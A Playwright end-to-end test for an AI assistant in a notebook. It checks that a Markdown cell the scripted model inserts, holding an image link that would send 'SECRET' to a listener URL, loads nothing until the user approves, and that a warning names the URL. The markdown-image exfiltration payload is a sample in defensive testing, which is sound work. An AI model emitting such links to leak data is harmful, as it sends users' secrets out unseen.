"""A Markdown cell of the model loads nothing before the user has approved what it loads."""

from __future__ import annotations

import json
from typing import TYPE_CHECKING, Any

import pytest
from playwright.sync_api import expect

from tests.e2e.browser.assistant import SECONDS, Panel
from tests.e2e.browser.lab import LabSettings
from tests.e2e.browser.notebook import Notebook

if TYPE_CHECKING:
    from playwright.sync_api import Page

    from tests.e2e.browser.lab import Lab
    from tests.e2e.browser.listener import Listener

pytestmark = pytest.mark.browser


@pytest.fixture(scope="module")
def lab_settings(tmp_path_factory: pytest.TempPathFactory, listener: Listener) -> LabSettings:
    script = tmp_path_factory.mktemp("script") / "cells.json"
    harmless = {"tool": "notebook_insert_cell", "arguments": {"source": "x = 1"}}
    picture = {
        "tool": "notebook_insert_cell",
        "arguments": {"source": f"![]({listener.url}/cell?q=SECRET)", "cell_type": "markdown"},
    }
    rules: list[dict[str, Any]] = [
        {"message": "insert", "reply": [harmless]},
        {"result": "", "times": 1, "reply": [picture]},
        {"result": "", "reply": [{"text": "All is done."}]},
    ]
    script.write_text(json.dumps({"rules": rules}))
    models = {"m": {"script": str(script)}}
    return LabSettings(eca={"defaultModel": "scripted/m", "providers": {"scripted": {"models": models}}})


@pytest.mark.nightly
def test_a_markdown_cell_loads_nothing_before_the_user_has_approved_what_it_loads(
    page: Page, lab: Lab, listener: Listener
) -> None:
    Notebook.open(page, lab, ["y = 1"], "cells.ipynb")
    panel = Panel.show(page)
    panel.ask("insert")
    panel.node.locator(".eca-Approval-session").click(timeout=SECONDS * 1000)  # for the harmless cell of code
    words = f"As soon as the cell is shown, the page loads: {listener.url}/cell?q=SECRET"
    expect(panel.node.locator(".eca-Tool-warning")).to_have_text(words, timeout=SECONDS * 1000)
    expect(panel.node.locator(".eca-Approval-session")).to_have_count(0)
    expect(page.locator(".jp-Notebook").get_by_text(words)).to_be_visible()
    page.evaluate("url => fetch(url)", f"{listener.url}/last")
    assert listener.paths == ["/last"]
    with page.expect_request(f"{listener.url}/cell?q=SECRET", timeout=SECONDS * 1000):
        panel.node.get_by_role("button", name="Approve", exact=True).click()
    panel.sees("All is done.")
